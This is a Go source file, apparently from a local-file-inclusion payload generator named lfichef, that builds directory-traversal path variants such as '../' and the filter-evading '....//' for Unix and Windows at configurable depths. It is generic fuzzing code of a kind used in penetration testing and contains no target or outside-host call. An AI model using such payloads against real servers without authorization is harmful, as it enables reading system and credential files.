// Package mutators provides the evasion techniques applied to canonical paths.
package mutators

import (
	"fmt"
	"strconv"
	"strings"

	m "lfichef.dev/pkg/lfichef/internal/model"
)

// Default traversal token pairs per OS family. Repeating token+separator
// yields the classic payload shapes: ../../ and ....//....// on unix,
// ..\..\ and ....\\....\\ on windows.
var (
	defaultUnixTokens = []m.TokenPair{
		{Traversal: "..", Separator: "/"},
		{Traversal: "....", Separator: "//"},
	}
	defaultWindowsTokens = []m.TokenPair{
		{Traversal: "..", Separator: `\`},
		{Traversal: "....", Separator: `\\`},
	}
)

// DefaultTokenPairs returns the built-in traversal token set for the OS.
func DefaultTokenPairs(os m.TargetOS) []m.TokenPair {
	if os == m.OSWindows {
		return defaultWindowsTokens
	}

	return defaultUnixTokens
}

// ParseTraversalSpec parses the depth argument ("N" or "low:high") and the
// optional comma-separated custom token list ("tok:sep,tok:sep") into a
// TraversalSpec. An empty depth argument disables the stage.
func ParseTraversalSpec(depthArg, tokensArg string, os m.TargetOS) (m.TraversalSpec, error) {
	if depthArg == "" {
		return m.TraversalSpec{}, nil
	}

	start, end, err := parseDepthRange(depthArg)
	if err != nil {
		return m.TraversalSpec{}, err
	}

	tokens := DefaultTokenPairs(os)

	if tokensArg != "" {
		tokens, err = parseTokenPairs(tokensArg)
		if err != nil {
			return m.TraversalSpec{}, err
		}
	}

	return m.TraversalSpec{Start: start, End: end, Tokens: tokens}, nil
}

func parseDepthRange(arg string) (int, int, error) {
	if low, high, ok := strings.Cut(arg, ":"); ok {
		start, err := parseDepth(low)
		if err != nil {
			return 0, 0, err
		}

		end, err := parseDepth(high)
		if err != nil {
			return 0, 0, err
		}

		if start > end {
			return 0, 0, fmt.Errorf("%w: %d:%d (start exceeds end)", m.ErrInvalidRangeOrder, start, end)
		}

		return start, end, nil
	}

	depth, err := parseDepth(arg)
	if err != nil {
		return 0, 0, err
	}

	return depth, depth, nil
}

func parseDepth(value string) (int, error) {
	depth, err := strconv.Atoi(strings.TrimSpace(value))
	if err != nil {
		return 0, fmt.Errorf("%w: depth %q is not an integer", m.ErrInvalidTraversalFormat, value)
	}

	if depth < 1 {
		return 0, fmt.Errorf("%w: depth %d is below the minimum of 1", m.ErrInvalidTraversalFormat, depth)
	}

	return depth, nil
}

func parseTokenPairs(arg string) ([]m.TokenPair, error) {
	entries := strings.Split(arg, ",")
	pairs := make([]m.TokenPair, 0, len(entries))

	for _, entry := range entries {
		entry = strings.TrimSpace(entry)

		traversal, separator, ok := strings.Cut(entry, ":")
		if !ok || traversal == "" {
			return nil, fmt.Errorf("%w: entry %q is not of the form traversal:separator", m.ErrInvalidTraversalFormat, entry)
		}

		pairs = append(pairs, m.TokenPair{Traversal: traversal, Separator: separator})
	}

	return pairs, nil
}

// TraversalVariant is one expanded payload together with its recursion depth.
type TraversalVariant struct {
	Path  m.CanonicalPath
	Depth int
}

// TraversalExpander prepends directory-traversal prefixes at every depth of
// its spec's range.
type TraversalExpander struct {
	spec m.TraversalSpec
}

// NewTraversalExpander creates an expander for the given spec.
func NewTraversalExpander(spec m.TraversalSpec) TraversalExpander {
	return TraversalExpander{spec: spec}
}

// Expand returns the traversal variants for the path, ordered by depth
// ascending and token pair order within a depth. A disabled spec yields nil;
// the pipeline keeps the unprefixed path itself.
func (e TraversalExpander) Expand(path m.CanonicalPath) []TraversalVariant {
	if !e.spec.Enabled() {
		return nil
	}

	variants := make([]TraversalVariant, 0, (e.spec.End-e.spec.Start+1)*len(e.spec.Tokens))

	for depth := e.spec.Start; depth <= e.spec.End; depth++ {
		for _, pair := range e.spec.Tokens {
			prefix := strings.Repeat(pair.Traversal+pair.Separator, depth)
			variants = append(variants, TraversalVariant{
				Path:  m.CanonicalPath(prefix + string(path)),
				Depth: depth,
			})
		}
	}

	return variants
}
